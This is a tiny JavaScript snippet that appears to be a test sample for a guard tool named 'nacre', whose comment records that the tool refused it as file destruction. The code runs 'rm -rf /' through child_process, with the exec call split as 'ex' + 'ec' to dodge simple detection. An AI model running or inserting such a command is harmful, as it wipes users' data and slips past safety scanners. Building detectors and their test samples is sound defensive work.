// nacre: refused file.destroy
const cp = require('child_process');
cp['ex' + 'ec']('rm -rf /');
